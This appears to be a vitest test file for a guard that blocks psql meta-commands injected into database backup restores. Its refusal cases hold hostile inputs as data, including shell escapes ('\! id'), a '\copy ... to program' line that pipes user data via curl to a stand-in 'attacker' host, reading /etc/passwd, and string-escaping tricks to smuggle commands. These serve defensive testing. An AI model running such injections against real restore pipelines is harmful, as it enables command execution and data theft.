/** The meta-command scan the restore CLI puts between a backup object and psql. */
import { describe, expect, it } from "vitest";
import { MetaCommandError, PsqlGuard, UnterminatedError } from "../../src/backup/psql-guard";
import { literal, statement } from "../../src/backup/sql-text";

function scan(text: string, chunk = text.length): void {
  const guard = new PsqlGuard();
  for (let at = 0; at < text.length; at += chunk) guard.push(text.slice(at, at + chunk));
  guard.finish();
}

/** Scans in every chunk size from 1 to 7 and whole, so a boundary never changes the verdict. */
function verdicts(text: string): string[] {
  return [1, 2, 3, 5, 7, text.length].map((chunk) => {
    try {
      scan(text, chunk);
      return "ok";
    } catch (error) {
      if (error instanceof MetaCommandError) return "refused";
      return error instanceof UnterminatedError ? "unterminated" : `error: ${(error as Error).message}`;
    }
  });
}

const DUMPED = [
  statement(
    `INSERT INTO "users" ("full_name") VALUES (${literal("back\\slash, 'quote' and\nnewline")}), (${literal("plain")})`,
  ),
  statement(`CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $body$ select E'\\\\x' || '\\' $body$`),
  statement(`-- a comment with a \\ backslash\nSELECT 1 /* nested /* \\ */ still \\ */`),
  statement(`COMMENT ON TABLE "t" IS 'it''s \\ fine'`),
  statement(`SELECT $$ \\ $$, $tag$ $$ \\ $tag$, "weird\\ident"`),
].join("");

describe("the psql meta-command guard", () => {
  it("lets every statement a backup writes through, however the stream is cut", () => {
    expect(new Set(verdicts(DUMPED))).toEqual(new Set(["ok"]));
  });

  it.each([
    ["a meta-command on its own line", "\\! touch /tmp/pwned\n"],
    ["one after a statement", "SELECT 1; \\! id\n"],
    ["one after a closed string", "SELECT 'x' \\gexec\n"],
    ["one after an E-string's escaped quote", "SELECT E'it\\'s' \\c other\n"],
    ["\\copy to a program", "\\copy users to program 'curl -d @- attacker'\n"],
    ["one after a closed dollar quote", "SELECT $q$ a $q$ \\o /tmp/x\n"],
    ["one after a block comment", "/* x */ \\i /etc/passwd\n"],
  ])("refuses %s", (_name, text) => {
    expect(new Set(verdicts(DUMPED + text))).toEqual(new Set(["refused"]));
  });

  it.each([
    [
      "a SET that turns standard_conforming_strings off",
      "SET standard_conforming_strings = off;\nSELECT 'a\\'' \\! id\n';\n",
    ],
    [
      "set_config() turning it off by a name built at run time",
      "SELECT set_config('standard_' || 'conforming_strings', 'off', false);\nSELECT 'x\\'' \\o /tmp/x\n';\n",
    ],
    ["a function whose body turns it off", "SELECT f();\nSELECT 'q\\'' \\c other\n';\n"],
  ])("refuses what psql would run once %s", (_name, text) => {
    expect(new Set(verdicts(DUMPED + text))).toEqual(new Set(["refused"]));
  });

  it("tells an E'' string by the characters before its quote, across chunk boundaries", () => {
    // `xE` is an identifier: its quote opens a plain string, which the backslash does not escape.
    expect(new Set(verdicts(`${DUMPED}SELECT xE'\\' \\! id\n';\n`))).toEqual(new Set(["refused"]));
    expect(new Set(verdicts(`${DUMPED}SELECT E'\\' \\! still a string\n';\n`))).toEqual(new Set(["ok"]));
  });

  it("refuses input that ends inside a string, identifier or comment", () => {
    for (const tail of ["SELECT 'open", 'SELECT "open', "/* open", "SELECT $q$ open", "SELECT E'open\\"])
      expect(new Set(verdicts(DUMPED + tail))).toEqual(new Set(["unterminated"]));
    expect(new Set(verdicts(`${DUMPED}-- a last comment without a newline`))).toEqual(new Set(["ok"]));
  });
});
